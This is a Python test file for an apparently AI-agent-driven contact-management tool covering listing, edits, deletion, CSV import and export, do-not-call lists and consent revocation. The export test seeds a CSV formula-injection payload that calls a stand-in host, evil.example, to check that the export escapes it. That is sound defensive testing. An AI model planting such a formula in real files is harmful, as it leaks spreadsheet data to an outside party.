"""The contact-admin tools against the real database (issue 18): listing and finding
contacts as a table, editing and deleting them behind a confirmation, importing a CSV
attached in chat with a preview, exporting one, the do-not-call list and revoking
consent — each change audited, each charged 0.5 credit only once it is done."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

from sqlalchemy import func, select

from accounts.models import AuditEvent, Role
from billing import ledger
from billing.money import QUERY_PRICE_MC
from core.db import Database
from telephony.models import ConsentRecord, Contact, DncEntry
from tests.accounts.helpers import make_member
from tests.chat_app.helpers import Asked
from tests.insights.helpers import seed_call
from tests.telephony.helpers import add_contact, fund, number_in
from tools import attachments
from tools.consent_admin import revoke_consent
from tools.contacts_admin import (
    delete_contact,
    edit_contact,
    export_contacts,
    import_contacts,
    list_contacts,
)
from tools.context import AgentContext
from tools.dnc import add_dnc, list_dnc, remove_dnc
from tools.metering import QueryMeter


def _ctx(db: Database, actor, answer: bool | None = True, meter: QueryMeter | None = None):
    asked = Asked(bool(answer))
    return AgentContext(
        actor=actor, db=db, confirm=asked if answer is not None else None, meter=meter
    ), asked


async def _run(tool: Any, ctx: AgentContext, **args: Any) -> str:
    """The tool's answer, called as the agent calls it (the runtime carries the context;
    a tool answers its text and what it was about, tools.about)."""
    result = await tool.coroutine(runtime=SimpleNamespace(context=ctx), **args)
    return str(result[0] if isinstance(result, tuple) else result)


async def _balance(db: Database, workspace_id: uuid.UUID) -> int:
    async with db.session() as session:
        return (await ledger.get_balance(session, workspace_id)).balance_mc


async def _audits(db: Database, workspace_id: uuid.UUID, action: str) -> list[AuditEvent]:
    async with db.session() as session:
        rows = await session.scalars(
            select(AuditEvent).where(
                AuditEvent.workspace_id == workspace_id, AuditEvent.action == action
            )
        )
        return list(rows.all())


async def _rep(db: Database, role: Role = Role.REP):
    member = await make_member(db, role)
    await fund(db, member.actor.workspace_id, 100)
    return member.actor


# --- listing ---------------------------------------------------------------------------


async def test_list_finds_by_company_consent_and_not_called_yet(db) -> None:
    rep = await _rep(db)
    called = await add_contact(db, rep, name="Ana Lima")  # consent on record
    await add_contact(db, rep, name="Ben Ode", consent=None)
    revoked = await add_contact(db, rep, name="Cy Park")
    async with db.session() as session:
        record = await session.scalar(
            select(ConsentRecord).where(ConsentRecord.contact_id == revoked.id)
        )
        record.revoked_at, record.revoked_how = datetime.now(UTC), "asked by email"
        await session.commit()
    await seed_call(db, called, rep.user_id, at=datetime.now(UTC) - timedelta(hours=2))
    ctx, _ = _ctx(db, rep)

    table = await _run(list_contacts, ctx)
    assert "| Name | Company | Phone | Consent | Last call |" in table
    assert [n in table for n in ("Ana Lima", "Ben Ode", "Cy Park")] == [True] * 3
    assert "completed, 1 call" in table  # Ana's last call, in the rep's own zone
    assert "3 contacts" in table

    never = await _run(list_contacts, ctx, called="never")
    assert "Ana Lima" not in never and "Ben Ode" in never and "Cy Park" in never
    granted = await _run(list_contacts, ctx, consent="granted")
    assert "Ana Lima" in granted and "Ben Ode" not in granted and "Cy Park" not in granted
    assert "Cy Park" in await _run(list_contacts, ctx, consent="revoked")
    none = await _run(list_contacts, ctx, consent="none")
    assert "Ben Ode" in none and "Ana Lima" not in none and "Cy Park" not in none
    assert "Ana Lima" in await _run(list_contacts, ctx, query="ana")
    assert "No contacts matching “Initech”" in await _run(list_contacts, ctx, query="Initech")
    assert "Unknown consent state" in await _run(list_contacts, ctx, consent="maybe")


async def test_listing_is_charged_only_when_something_is_listed(db) -> None:
    rep = await _rep(db)
    ws = rep.workspace_id
    start = await _balance(db, ws)

    async def listed(**args: Any) -> int:
        meter = QueryMeter(db, ws, key=f"test:{uuid.uuid4()}")
        ctx, _ = _ctx(db, rep, meter=meter)
        await _run(list_contacts, ctx, **args)
        async with db.session() as session:
            await meter.settle(session, description="test", metadata={})
            await session.commit()
        return await _balance(db, ws)

    assert await listed() == start  # no contacts yet: free
    await add_contact(db, rep, name="Ana Lima")
    assert await listed() == start - QUERY_PRICE_MC


# --- edit and delete ---------------------------------------------------------------------


async def test_edit_asks_first_then_changes_and_audits_and_charges(db) -> None:
    rep = await _rep(db)
    contact = await add_contact(db, rep, name="Dana Lee")
    new = number_in("212")
    start = await _balance(db, rep.workspace_id)

    ctx, asked = _ctx(db, rep, answer=False)
    declined = await _run(edit_contact, ctx, contact="Dana Lee", phone=new, company="Initech")
    assert "Not changed: you declined" in declined
    assert "Change Dana Lee (Acme)" in asked.questions[0]
    assert "company: “Acme” → “Initech”" in asked.questions[0]
    assert "record consent for the new one" in asked.questions[0]
    async with db.session() as session:
        assert (await session.get(Contact, contact.id)).company == "Acme"
    assert await _balance(db, rep.workspace_id) == start  # declined: free

    ctx, _ = _ctx(db, rep)
    done = await _run(edit_contact, ctx, contact="Dana Lee", phone=new, company="Initech")
    assert done.startswith("Updated Dana Lee (Initech)"), done
    async with db.session() as session:
        stored = await session.get(Contact, contact.id)
        assert (stored.phone_e164, stored.company) == (new, "Initech")
    (event,) = await _audits(db, rep.workspace_id, "contact_edited")
    assert event.actor_id == rep.user_id and event.detail["fields"] == ["phone", "company"]
    assert await _balance(db, rep.workspace_id) == start - QUERY_PRICE_MC


async def test_delete_keeps_consent_and_calls_and_the_contact_cannot_be_called(db) -> None:
    rep = await _rep(db)
    contact = await add_contact(db, rep, name="Jun Park")
    await seed_call(db, contact, rep.user_id, at=datetime.now(UTC) - timedelta(days=1))
    ctx, asked = _ctx(db, rep)
    done = await _run(delete_contact, ctx, contact="Jun Park")
    assert "Deleted Jun Park" in done and "consent records and call history are kept" in done
    assert "(1 call)" in asked.questions[0]
    async with db.session() as session:
        stored = await session.get(Contact, contact.id)
        assert stored is not None and stored.deleted_at is not None  # kept, marked
        consents = await session.scalar(
            select(func.count())
            .select_from(ConsentRecord)
            .where(ConsentRecord.contact_id == contact.id)
        )
        assert consents == 1
    assert "You have no contacts yet" in await _run(list_contacts, ctx)
    assert "No contact matching" in await _run(delete_contact, ctx, contact="Jun Park")
    assert len(await _audits(db, rep.workspace_id, "contact_deleted")) == 1
    # Nobody can call a deleted contact: the gate does not find it.
    from core.errors import NotFound
    from telephony.compliance import check_call

    async with db.session() as session:
        try:
            await check_call(session, rep, contact.id)
        except NotFound:
            pass
        else:
            raise AssertionError("a deleted contact passed to the gate")
    # The number can be added again, as a new contact.
    again = await add_contact(db, rep, name="Jun Park", phone=contact.phone_e164)
    assert again.id != contact.id


# --- export ------------------------------------------------------------------------------


async def test_export_is_a_formula_safe_csv_download(db) -> None:
    rep = await _rep(db)
    await add_contact(db, rep, name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    await add_contact(db, rep, name="Plain Name", consent=None)
    ctx, _ = _ctx(db, rep)
    text = await _run(export_contacts, ctx)
    assert text.startswith("Exported 2 contacts")
    (file,) = ctx.artifacts
    assert file.kind == "file" and file.mime == "text/csv" and file.name.endswith(".csv")
    rows = list(csv.reader(io.StringIO(file.content)))
    assert rows[0] == ["name", "phone", "company", "notes", "consent", "last_call_at", "calls"]
    names = sorted(row[0] for row in rows[1:])
    assert names == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "Plain Name"]


# --- import ------------------------------------------------------------------------------


async def _import(db: Database, actor, data: bytes, answer: bool | None = True):
    ctx, asked = _ctx(db, actor, answer=answer)
    with attachments.attached((attachments.Attachment("leads.csv", "text/csv", data),)):
        text = await _run(import_contacts, ctx)
    return text, asked


async def _count(db: Database, workspace_id: uuid.UUID) -> int:
    async with db.session() as session:
        return int(
            await session.scalar(
                select(func.count())
                .select_from(Contact)
                .where(Contact.workspace_id == workspace_id, Contact.deleted_at.is_(None))
            )
            or 0
        )


async def test_import_previews_then_writes_only_on_yes(db) -> None:
    rep = await _rep(db)
    good, other = number_in("415"), number_in("212")
    data = (
        "Full Name,Phone Number,Company,Favourite colour\n"
        f"Ana Lima,{good},Acme,blue\n"
        f"Ben Ode,{other},Globex,red\n"
        "No Number,,Acme,green\n"
    ).encode()
    text, asked = await _import(db, rep, data, answer=False)
    preview = asked.questions[0]
    assert "Full Name → name" in preview and "Phone Number → phone" in preview
    assert "Ignored columns: Favourite colour" in preview
    assert "**2 rows will be imported**" in preview
    assert r"line 4 \(No Number\): the phone number is missing" in preview  # escaped
    assert "Not imported: you declined" in text
    assert await _count(db, rep.workspace_id) == 0

    start = await _balance(db, rep.workspace_id)
    text, _ = await _import(db, rep, data)
    assert text.startswith("Imported 2 contacts; rejected 1 row"), text
    assert await _count(db, rep.workspace_id) == 2
    assert await _balance(db, rep.workspace_id) == start - QUERY_PRICE_MC


async def test_import_without_an_attachment_says_how(db) -> None:
    rep = await _rep(db)
    ctx, asked = _ctx(db, rep)
    text = await _run(import_contacts, ctx)
    assert "Attach the CSV first" in text and asked.questions == []


# --- do-not-call and consent ---------------------------------------------------------------


async def test_dnc_add_list_and_a_manager_removes_with_a_reason(db) -> None:
    manager = await _rep(db, Role.MANAGER)
    number = number_in("415")
    ctx, asked = _ctx(db, manager)
    added = await _run(add_dnc, ctx, phone=number, reason="asked not to be called")
    assert added.startswith("Added +1 415"), added
    assert "Reason: asked not to be called" in asked.questions[0]
    assert "already on the do-not-call list" in await _run(add_dnc, ctx, phone=number)

    listed = await _run(list_dnc, ctx)
    assert "| Number | Added | By | Source | Reason |" in listed
    assert "asked not to be called" in listed and "manual" in listed

    asks = await _run(remove_dnc, ctx, phone=number)
    assert "Why may" in asks  # no reason: asked for one, nothing changed
    removed = await _run(remove_dnc, ctx, phone=number, reason="they asked for a callback")
    assert removed.startswith("Removed +1 415"), removed
    async with db.session() as session:
        assert (
            await session.scalar(
                select(DncEntry).where(DncEntry.workspace_id == manager.workspace_id)
            )
            is None
        )
    (event,) = await _audits(db, manager.workspace_id, "dnc_removed")
    assert event.actor_id == manager.user_id
    assert event.detail["reason"] == "they asked for a callback"
    assert event.detail["entry"]["reason"] == "asked not to be called"
    assert len(await _audits(db, manager.workspace_id, "dnc_added")) == 1


async def test_add_dnc_by_contact_name_and_revoke_consent(db) -> None:
    rep = await _rep(db)
    contact = await add_contact(db, rep, name="Omar Haddad")
    ctx, asked = _ctx(db, rep)
    text = await _run(revoke_consent, ctx, contact="Omar Haddad", reason="asked by email")
    assert text.startswith("Revoked 1 consent record of Omar Haddad"), text
    assert "Reason: asked by email" in asked.questions[0]
    (event,) = await _audits(db, rep.workspace_id, "consent_revoked")
    assert event.actor_id == rep.user_id and event.detail["how"] == "asked by email"
    assert "no active consent" in await _run(revoke_consent, ctx, contact="Omar Haddad")

    added = await _run(add_dnc, ctx, phone="Omar Haddad")
    assert added.startswith("Added +1 415"), added
    async with db.session() as session:
        entry = await session.scalar(
            select(DncEntry).where(DncEntry.workspace_id == rep.workspace_id)
        )
        assert entry is not None and entry.phone_e164 == contact.phone_e164
